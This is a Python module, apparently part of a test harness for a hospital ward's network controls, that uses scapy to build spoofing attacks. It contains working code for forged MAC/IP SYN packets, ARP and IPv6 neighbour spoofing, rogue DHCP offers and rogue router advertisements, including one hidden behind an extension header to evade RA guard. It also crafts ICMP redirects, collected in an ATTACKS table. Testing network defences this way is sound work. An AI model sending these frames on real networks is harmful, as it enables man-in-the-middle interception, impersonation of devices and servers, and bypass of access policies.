"""Attacks that claim to be somebody else, or to be a server of the network."""

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import (
    ICMPv6ND_NA,
    ICMPv6ND_RA,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrDestOpt,
)
from scapy.layers.l2 import ARP, Ether

from parties import Host, Parties

REPEATS = 5
BROADCAST = "ff:ff:ff:ff:ff:ff"
ALL_NODES = "33:33:00:00:00:01"
# A locally administered address that no station of the ward has.
STRANGER = "02:13:37:00:00:01"
# A hospital machine that no device of the ward talks to.
LONELY_HOST = "10.20.0.66"


def syn(mac: str, source_ip: str, target: Host, source_port: int, port: int) -> bytes:
    frame = Ether(src=mac, dst=target.mac) / IP(src=source_ip, dst=target.ip)
    return bytes(frame / TCP(sport=source_port, dport=port, flags="S", seq=1000))


def mac_of_host(parties: Parties) -> int:
    """The hardware address of a hospital machine, sent from the ward."""
    frame = syn(parties.other.mac, parties.other.ip, parties.target, 39001, 445)
    return parties.send([frame] * REPEATS)


def mac_of_device(parties: Parties) -> int:
    """The hardware address of another device, which never had this network address."""
    frame = syn(parties.other.mac, parties.attacker.ip, parties.target, 39002, 445)
    return parties.send([frame] * REPEATS)


def mac_of_nobody(parties: Parties) -> int:
    """A device nobody knows, made up on the spot to have no policy."""
    frame = syn(STRANGER, "10.20.1.222", parties.target, 39003, 445)
    return parties.send([frame] * REPEATS)


def ip_of_device(parties: Parties) -> int:
    """The network address of another device, to use what that one is allowed."""
    frame = syn(parties.attacker.mac, parties.other.ip, parties.target, 39004, 443)
    return parties.send([frame] * REPEATS)


def arp(parties: Parties) -> int:
    """Answers and announcements that put somebody else's address onto the attacker."""
    answer = Ether(src=parties.attacker.mac, dst=parties.target.mac)
    answer /= ARP(
        op="is-at",
        hwsrc=parties.attacker.mac,
        psrc=parties.other.ip,
        hwdst=parties.target.mac,
        pdst=parties.target.ip,
    )
    # Every device of the ward hears this one, the gateway or no, since they share a switch. So it
    # claims an address that none of them talks to.
    announcement = Ether(src=parties.attacker.mac, dst=BROADCAST)
    announcement /= ARP(
        op="who-has", hwsrc=parties.attacker.mac, psrc=LONELY_HOST, pdst=LONELY_HOST
    )
    return parties.send([bytes(frame) for frame in (answer, announcement)] * REPEATS)


def neighbour(parties: Parties) -> int:
    """A neighbour advertisement that puts another device's IPv6 address onto the attacker."""
    ether = Ether(src=parties.attacker.mac, dst=parties.target.mac)
    packet = IPv6(src=parties.other.link_local, dst=parties.target.link_local, hlim=255)
    claim = ICMPv6ND_NA(tgt=parties.other.link_local, R=0, S=1, O=1)
    option = ICMPv6NDOptDstLLAddr(lladdr=parties.attacker.mac)
    return parties.send([bytes(ether / packet / claim / option)] * REPEATS)


def dhcp_server(parties: Parties) -> int:
    """Offers and acknowledgements of a DHCP server that is none."""
    frames = []
    for kind in ("offer", "ack"):
        frame = Ether(src=parties.attacker.mac, dst=BROADCAST)
        frame /= IP(src=parties.attacker.ip, dst="255.255.255.255") / UDP(sport=67, dport=68)
        frame /= BOOTP(op=2, yiaddr="10.20.1.99", siaddr=parties.attacker.ip, xid=0x39005)
        options = [("message-type", kind), ("server_id", parties.attacker.ip)]
        frame /= DHCP(options=options + [("router", parties.attacker.ip), "end"])
        frames.append(bytes(frame))
    return parties.send(frames * REPEATS)


def router_advertisement(parties: Parties) -> int:
    """A router that is none, in plain sight and behind an extension header (RFC 7113)."""
    ether = Ether(src=parties.attacker.mac, dst=ALL_NODES)
    packet = IPv6(src=parties.attacker.link_local, dst="ff02::1", hlim=255)
    offer = ICMPv6ND_RA(routerlifetime=1800) / ICMPv6NDOptSrcLLAddr(lladdr=parties.attacker.mac)
    offer /= ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)
    frames = [ether / packet / offer, ether / packet / IPv6ExtHdrDestOpt() / offer]
    return parties.send([bytes(frame) for frame in frames] * REPEATS)


def icmp_redirect(parties: Parties) -> int:
    """Tells the target, in the router's name, to send its traffic to the attacker."""
    frame = Ether(src=parties.attacker.mac, dst=parties.target.mac)
    frame /= IP(src=parties.other.ip, dst=parties.target.ip)
    frame /= ICMP(type=5, code=1, gw=parties.attacker.ip)
    quoted = IP(src=parties.target.ip, dst="10.20.0.12") / UDP(sport=39006, dport=123)
    return parties.send([bytes(frame / quoted)] * REPEATS)


ATTACKS = {
    "mac-of-host": mac_of_host,
    "mac-of-device": mac_of_device,
    "mac-of-nobody": mac_of_nobody,
    "ip-of-device": ip_of_device,
    "arp-spoofing": arp,
    "nd-spoofing": neighbour,
    "rogue-dhcp": dhcp_server,
    "rogue-ra": router_advertisement,
    "icmp-redirect": icmp_redirect,
}
